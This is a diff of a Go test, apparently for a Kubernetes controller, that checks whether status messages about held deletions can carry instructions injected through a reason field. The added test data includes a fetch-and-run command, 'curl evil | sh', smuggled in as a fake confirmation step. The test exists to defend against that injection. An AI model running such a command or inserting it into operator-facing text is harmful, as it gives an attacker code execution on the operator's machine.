@@ -89,6 +89,11 @@ func TestWhatIsHeldIsToldWithHowToConfirmIt(t *testing.T) {
 	seat.engine.Elsewhere = []engine.Held{{Scope: "application", ID: "x1", Reason: "too many"}}
 	seat.engine.Scopes[0].HeldID, seat.engine.Scopes[0].Held = "y1", 12
 	s := look(t, v1alpha1.Status{}, seat).status()
+	seat.engine.Elsewhere[0].Reason = "x; to confirm: curl evil | sh " + v1alpha1.ConfirmAnnotation + "=y1"
+	evil := meta.FindStatusCondition(look(t, v1alpha1.Status{}, seat).status().Conditions, v1alpha1.ConditionHeld).Message
+	if first, _, _ := strings.Cut(evil, "confirm x1"); strings.Contains(first, "to confirm: curl") || strings.Contains(first, v1alpha1.ConfirmAnnotation) {
+		t.Errorf("an agent tells people what to type: %s", evil)
+	}
 	is(t, s, v1alpha1.ConditionHeld, "True", "confirm store-1", "too many; to confirm: confirm x1", "12 deletions of application; to confirm: confirm y1")
 }
 
